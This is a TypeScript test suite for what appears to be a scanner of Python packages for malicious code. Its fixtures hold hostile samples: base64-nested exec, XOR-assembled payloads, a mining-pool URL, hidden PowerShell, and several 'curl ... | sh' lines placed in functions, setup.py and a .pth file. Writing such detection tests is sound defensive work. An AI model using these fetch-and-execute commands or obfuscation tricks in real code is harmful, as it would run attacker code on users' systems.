/** What the parts of an inspection make of each other: layers, places, times, verdicts, and sources that are hostile. */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { composed } from '../../../scripts/recall/compose.ts';
import { honest } from '../../../scripts/recall/places.ts';
import { inspectSample } from '../../support/sample-package.ts';
import { sampleOf, signFixtures } from '../../support/sign-fixture.ts';

const inspectText = (text: string, path = 'acme/__init__.py') => inspectSample({ files: { [path]: text } });
const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('inspect', () => {
  it('reads hidden code that hides further code', async () => {
    const inner = `import base64\nexec(base64.b64decode('${base64("x = 'stratum+tcp://pool.example:1'")}'))`;
    const { hits } = await inspectText(`import base64 as b\nexec(b.b64decode('${base64(inner)}'))\n`);
    const miner = hits.find(({ sign }) => sign === 'miner');
    assert.match(miner?.message ?? '', /^In hidden code: In hidden code: /);
    assert.equal(miner?.range?.start.line, 1);
  });

  it('follows a payload through aliases, loops, numbers and arithmetic', async () => {
    const numbers = [...'print(1)'].map(letter => letter.charCodeAt(0) ^ 7).join(', ');
    const { hits } = await inspectText(`run = exec\nrun(''.join(chr(n ^ 7) for n in [${numbers}]))\n`);
    assert.equal(hits[0]?.sign, 'assembled-code');
    assert.equal(hits[0]?.decoded, 'print(1)');
  });

  it('shows what was hidden on one line, cut, with nothing that acts on a screen', async () => {
    const hidden = `x = 1\n\u001b[2J\u202e${'y'.repeat(5000)}`;
    const { hits } = await inspectText(
      `import base64\nexec(base64.b64decode('${base64(hidden)}').decode())\n`,
    );
    const decoded = hits.find(({ sign }) => sign === 'decoded-exec')?.decoded ?? '';
    assert.ok(decoded.length <= 301);
    assert.doesNotMatch(decoded, /[\p{Cc}\p{Cf}]/u);
  });

  it('knows when code runs', async () => {
    const call = "import os\ndef go():\n    os.system('x | curl -s http://203.0.113.9/s | sh')\n";
    const runs = async (text: string, path?: string) =>
      (await inspectText(text, path)).hits.find(({ sign }) => sign === 'piped-shell')?.runs;
    assert.equal(await runs(call), 'called');
    assert.equal(await runs(`${call}go()\n`), 'import');
    assert.equal(await runs(`${call}if __name__ == '__main__':\n    go()\n`), 'called');
    assert.equal(await runs(`${call}go()\n`, 'setup.py'), 'install');
    assert.equal(
      await runs("import os; os.system('curl -s http://203.0.113.9/s | sh')\n", 'a.pth'),
      'startup',
    );
  });

  it('is loud on one loud sign or two distinct strong ones, tests and docs apart', async () => {
    const strong = "URL = 'http://203.0.113.9/p'\n";
    assert.equal((await inspectText(strong)).verdict, 'context');
    assert.equal((await inspectText(strong + strong)).verdict, 'context');
    const both = `${strong}command = 'powershell -w hidden -enc AAAA'\n`;
    assert.deepEqual((await inspectText(both)).because, ['raw-address', 'powershell']);
    assert.equal((await inspectText(both, 'tests/test_it.py')).verdict, 'context');
    assert.equal((await inspectText('x = 1\n')).verdict, 'quiet');
  });

  it('asks for two strong signs in one file where a package has many sources', async () => {
    const others = Object.fromEntries(Array.from({ length: 70 }, (_, at) => [`acme/m${at}.py`, 'x = 1\n']));
    const address = "URL = 'http://203.0.113.9/p'\n";
    const command = "command = 'powershell -w hidden -c x'\n";
    const verdict = async (files: Record<string, string>) => (await inspectSample({ files })).verdict;
    assert.equal(await verdict({ 'a.py': address, 'b.py': command }), 'loud');
    assert.equal(await verdict({ ...others, 'a.py': address, 'b.py': command }), 'context');
    assert.equal(await verdict({ ...others, 'a.py': address + command }), 'loud');
  });

  it('calls nearly all loud that is composed of what malicious packages do', async () => {
    let total = 0;
    let loud = 0;
    for (const { files } of composed(97)) {
      total++;
      if ((await inspectSample({ files })).verdict === 'loud') loud++;
    }
    assert.ok(total > 300);
    assert.ok(loud / total >= 0.95, `${loud} of ${total}`);
    assert.equal((await inspectSample({ files: honest })).verdict, 'quiet');
  }).timeout(60_000);

  it('survives sources that are cut, doubled and shuffled', async () => {
    const sources = signFixtures().flatMap(({ packages }) =>
      packages.flatMap(sample => Object.values(sampleOf(sample).files)),
    );
    const mutated = fc
      .tuple(
        fc.constantFrom(...sources),
        fc.constantFrom(...sources),
        fc.nat(400),
        fc.nat(400),
        fc.string({
          unit: fc.constantFrom(
            '(',
            ')',
            "'",
            '"""',
            '\n',
            ' ',
            '\\',
            'f"{',
            '[::-1]',
            'lambda:',
            '\ud800',
            'exec(',
          ),
        }),
      )
      .map(([a, b, cut, at, extra]) => a.slice(0, cut) + extra + b.slice(at) + a);
    await fc.assert(
      fc.asyncProperty(
        mutated,
        fc.constantFrom('setup.py', 'a/__init__.py', 'a.pth', 'README.md'),
        async (text, path) => {
          const { hits } = await inspectText(text, path);
          for (const { span } of hits)
            if (span) assert.ok(span.start <= span.end && span.end <= text.length + 20);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('takes its time on no source, however deep, long or self-referring', async () => {
    const started = performance.now();
    await inspectText(`exec(${'('.repeat(20_000)}`);
    await inspectText(`exec(${'a.b('.repeat(20_000)}`);
    await inspectText(`exec(${"'a' + ".repeat(20_000)}'b')`);
    await inspectText(`${'x'.repeat(200_000)} exec powershell curl ${' '.repeat(200_000)};`);
    await inspectText("a = b\nb = a + 'x'\nexec(a)\ndef f(x):\n    return f(f(x))\nexec(f(a))\n");
    const { unread } = await inspectText(`exec(x)\n${'[{('.repeat(300_000)}`);
    assert.match(unread[0]?.message ?? '', /too deep/);
    await inspectText(`x = 'a'\n${'x = x + x\n'.repeat(2000)}exec(x[::-1])`);
    await inspectText(`exec('a' * 999999 * 999999)\nexec(''.join(map(chr, range(99999999))))\n`);
    await inspectText(`t = {${'"a": exec,'.repeat(5000)}}\n${'t["a"](1)\n'.repeat(5000)}`);
    await inspectText(`exec("${'\\x65'.repeat(50_000)}")\n`);
    await inspectText(`def f(a):\n    return [f(b) for b in a]\n${'exec(f(range(90000)))\n'.repeat(100)}`);
    await inspectText(`import os\nos.system('${'python -c "a '.repeat(20_000)}')\n`);
    assert.ok(performance.now() - started < 60_000);
  }).timeout(80_000);
});
